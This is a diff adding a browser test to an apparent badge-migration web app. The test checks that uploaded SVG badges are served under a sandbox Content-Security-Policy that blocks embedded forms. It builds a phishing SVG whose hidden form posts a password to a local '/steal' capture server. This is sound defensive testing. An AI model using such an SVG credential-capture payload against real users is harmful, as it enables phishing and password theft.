@@ -454,3 +454,128 @@ def test_pages_pass_basic_accessibility_checks_and_work_from_the_keyboard(world:
     check_accessibility(page)
     page.goto(f"{link}x")
     check_accessibility(page)
+
+
+class _FormTarget:
+    """A site of its own on another loopback port: it serves the SVG plainly (the control) and
+    records every form that reaches it."""
+
+    def __init__(self) -> None:
+        import threading
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        posts: list[bytes] = []
+        self.posts = posts
+        self.svg = b""
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                self.send_response(200)
+                self.send_header("Content-Type", "image/svg+xml")
+                self.end_headers()
+                self.wfile.write(outer.svg)
+
+            def do_POST(self) -> None:
+                posts.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
+                self.send_response(200)
+                self.send_header("Content-Type", "text/plain")
+                self.end_headers()
+                self.wfile.write(b"got it")
+
+            def log_message(self, format: str, *args: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def _phishing_svg(action: str) -> bytes:
+    return (
+        '<svg xmlns="http://www.w3.org/2000/svg" width="320" height="200">'
+        '<foreignObject x="0" y="0" width="320" height="200">'
+        f'<form xmlns="http://www.w3.org/1999/xhtml" action="{action}" method="post">'
+        '<input id="pw" name="password" value="hunter2"/>'
+        '<button id="go" type="submit">Sign in</button>'
+        "</form></foreignObject></svg>"
+    ).encode()
+
+
+def test_a_form_inside_an_svg_badge_opened_on_its_own_cannot_submit(world: World, page: Any) -> None:
+    import io
+    import zipfile
+
+    import boto3
+
+    from backpack_migrate.crypto import badge_id_for
+    from backpack_migrate.domain import BadgeRecord, BadgeState, ExportRecord, ExportStatus, Problem
+    from backpack_migrate.export import BytesRangeReader, member_index
+    from backpack_migrate.links import sign_link
+    from backpack_migrate.services import get_services
+
+    target = _FormTarget()
+    try:
+        svg = target.svg = _phishing_svg(f"{target.url}/steal")
+        # The control: the same SVG served plainly by its own site submits its form.
+        page.goto(f"{target.url}/plain.svg")
+        page.fill("#pw", "hunter2")
+        page.click("#go")
+        page.wait_for_url(f"{target.url}/steal")
+        assert target.posts == [b"password=hunter2"]
+        target.posts.clear()
+
+        # The same SVG as a badge of an export, opened on its own through the learner's link. It
+        # is put on record directly (outside exports/, so no intake), to leave the demo alone.
+        buffer = io.BytesIO()
+        with zipfile.ZipFile(buffer, "w") as archive:
+            archive.writestr("phish.svg", svg)
+        data = buffer.getvalue()
+        bucket = world.run.stack.resource("ExportsBucket")
+        put = boto3.client("s3").put_object(Bucket=bucket, Key="fixtures/phish.zip", Body=data)
+        svc = get_services()
+        export = ExportRecord(
+            export_id="phish-export",
+            bucket=bucket,
+            key="fixtures/phish.zip",
+            etag=put["ETag"].strip('"'),
+            version_id=put.get("VersionId"),
+            size=len(data),
+            status=ExportStatus.CHUNKED,
+        )
+        svc.store.put_export_if_absent(export)
+        learner_id = "f" * 32
+        badge = BadgeRecord(
+            learner_id=learner_id,
+            badge_id=badge_id_for(learner_id, "phish.svg"),
+            export_id=export.export_id,
+            file_name="phish.svg",
+            media_type="image/svg+xml",
+            member=member_index(BytesRangeReader(data))["phish.svg"],
+            state=BadgeState.UNREADABLE,
+            problem=Problem(code="NOTHING_BAKED", message="This image holds no badge information."),
+        )
+        svc.store.put_badges_if_absent([badge])
+        token = sign_link(svc.link_secret(), learner_id, export.export_id, 3600)
+        blocked: list[str] = []
+        page.on("console", lambda message: blocked.append(message.text))
+        response = page.goto(f"{world.run.stack.url}/l/{token}/badges/{badge.badge_id}/image")
+        assert response is not None and response.status == 200
+        assert response.headers["content-type"] == "image/svg+xml"
+        policy = response.headers["content-security-policy"]
+        assert policy == "default-src 'none'; style-src 'unsafe-inline'; sandbox"
+        # The form is drawn (it is only markup), yet neither a click nor Enter sends it anywhere.
+        page.fill("#pw", "hunter2")
+        page.click("#go")
+        page.press("#pw", "Enter")
+        page.wait_for_timeout(1500)
+        assert target.posts == []
+        assert page.url.endswith("/image")
+        assert any("sandboxed" in text and "allow-forms" in text for text in blocked), blocked
+    finally:
+        target.close()
